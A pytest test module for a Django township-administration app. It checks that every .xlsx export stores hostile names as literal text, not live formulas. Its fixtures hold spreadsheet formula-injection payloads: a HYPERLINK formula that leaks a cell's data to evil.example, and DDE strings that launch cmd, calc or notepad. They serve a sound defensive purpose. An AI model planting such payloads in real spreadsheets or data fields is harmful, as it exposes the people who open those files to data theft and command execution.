"""Issue 12 item 3: every .xlsx endpoint stores hostile names as text, never as a live formula.

A township admin renames a village (and its township) to a spreadsheet formula; the county admin
then downloads every export. Each export URL is found from the URL conf, so a new export that
forgets the writer is caught here too.
"""

import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from shuping.core.xlsx import FORMULA_TRIGGERS
from shuping.dashboards.selectors import DASHBOARDS
from shuping.orgs import services as org_services
from shuping.routine import services as routine_services
from shuping.stars import services as star_services

from ..builders import make_user
from ..jobs.worker import run_jobs
from ..rectification.conftest import new_problem
from .test_backup import published_campaign

HOSTILE_ORG = '=HYPERLINK("http://evil.example/?"&C2,"点此查看")'
HOSTILE_TOWN = "+cmd|' /C calc'!A0"
HOSTILE_PERSON = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_TASK = "-2+3+cmd|' /C notepad'!A0"
YEAR = 2026


def _xlsx_routes(resolver=None, namespace=""):
    resolver = resolver or get_resolver()
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            yield from _xlsx_routes(entry, f"{namespace}{entry.namespace}:" if entry.namespace else namespace)
        elif isinstance(entry, URLPattern) and entry.name and ".xlsx" in str(entry.pattern):
            yield f"{namespace}{entry.name}", list(entry.pattern.converters)


@pytest.fixture
def hostile(tree, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    org_services.org_update(actor=None, org=tree.village_a1, name=HOSTILE_ORG)
    org_services.org_update(actor=None, org=tree.town_a1, name=HOSTILE_TOWN)
    org_services.person_update(actor=None, person=tree.person_a, name=HOSTILE_PERSON)
    campaign = published_campaign(tree)
    star_set = star_services.criteria_set_create(actor=None, organiser=tree.county_a, year=YEAR)
    star_services.ratings_open(actor=None, criteria_set=star_set)
    new_problem(tree.village_a1, HOSTILE_ORG)
    routine_services.indicator_save(actor=None, organiser=tree.county_a, year=YEAR, code="X", name="组织生活",
                                    max_score=Decimal(60), order=1)
    routine_services.responsibility_save(actor=None, organiser=tree.county_a, year=YEAR, org=tree.town_a1,
                                         task=HOSTILE_TASK, target_value=Decimal(6), target_unit="次",
                                         deadline=datetime.date(YEAR, 12, 31))
    tree.campaign = campaign
    return tree


def _requests(tree):
    """(url, what must appear in it) for every .xlsx route."""
    kwargs_for = {"pk": tree.campaign.pk, "org": tree.county_a.pk, "year": YEAR}
    query = f"?org={tree.county_a.pk}&year={YEAR}&month=10"
    for name, params in _xlsx_routes():
        keys = list(DASHBOARDS) if "key" in params else [None]
        for key in keys:
            kwargs = {p: kwargs_for[p] for p in params if p != "key"}
            if key:
                kwargs["key"] = key
            yield name, reverse(name, kwargs=kwargs or None) + query


# Exports whose rows carry one of the hostile names (the others are templates and rubric sheets).
MUST_CARRY = {
    "orgs:export": {HOSTILE_ORG, HOSTILE_TOWN, HOSTILE_PERSON},
    "stars:export": {HOSTILE_ORG},
    "rectification:export_xlsx": {HOSTILE_ORG},
    "campaigns:results_export": {HOSTILE_TOWN},
    "campaigns:ballots_template": {HOSTILE_TOWN},
    "routine:responsibilities_export": {HOSTILE_TOWN, HOSTILE_TASK},
    "routine:scores_template": {HOSTILE_TOWN},
}


def _cells(content):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _download(client, url):
    """The file an export offers: directly, or — for exports that run as background jobs (POST only) —
    started as a browser would, worked by the queue, and downloaded from the job."""
    response = client.get(url)
    if response.status_code != 405:
        return response, response.content
    started = client.post(url)
    assert started.status_code == 302 and started["Location"].startswith("/jobs/"), f"{url}: {started.status_code}"
    run_jobs()
    response = client.get(started["Location"] + "download/")
    return response, b"".join(response.streaming_content)


@pytest.mark.django_db
def test_every_export_writes_hostile_names_as_literal_text(client, hostile):
    admin = make_user("county-admin", "admin", hostile.county_a)
    client.force_login(admin)
    seen_names, carried = set(), {}
    for name, url in _requests(hostile):
        response, body = _download(client, url)
        assert response.status_code == 200, f"{url}: {response.status_code}"
        assert response["Content-Type"].startswith("application/vnd.openxmlformats"), url
        assert '"' not in response["Content-Disposition"].split("filename=", 1)[1].strip('"').split('"; ')[0], url
        seen_names.add(name)
        for cell in _cells(body):
            assert cell.data_type != "f", f"{url}: live formula in {cell.coordinate}: {cell.value!r}"
            if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                assert cell.quotePrefix, f"{url}: {cell.coordinate} {cell.value!r} lacks the text prefix"
                carried.setdefault(name, set()).add(cell.value)
    for name, values in MUST_CARRY.items():
        assert name in seen_names, f"{name} is no longer an .xlsx route"
        assert values <= carried.get(name, set()), f"{name} did not carry {values - carried.get(name, set())}"
    # The tree dashboard (dashboards/tree.xlsx) carries the township's name as text too.
    assert HOSTILE_TOWN in carried.get("dashboards:export", set())


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("x")'])
def test_writer_stores_formula_looking_text_as_text(value):
    from shuping.core.xlsx import new_workbook, workbook_bytes, write_notes, write_sheet

    workbook = new_workbook()
    write_sheet(workbook, "名单[1]:*?", ["名称"], [[value], [12], [None]])
    write_notes(workbook, "说明", [value])
    cells = [c for c in _cells(workbook_bytes(workbook)) if c.value is not None]
    assert [c.value for c in cells] == ["名称", value, 12, value]
    assert all(c.data_type != "f" for c in cells)
    assert cells[1].quotePrefix and cells[3].quotePrefix and not cells[2].quotePrefix


def test_download_header_survives_a_hostile_file_name():
    from shuping.core.http import XLSX_TYPE, file_response

    response = file_response(b"x", '=HYPERLINK("a\\b")\u0007甲县.xlsx', XLSX_TYPE)
    header = response["Content-Disposition"]
    assert header.startswith('attachment; filename="=HYPERLINK(ab).xlsx"; filename*=UTF-8\'\'')
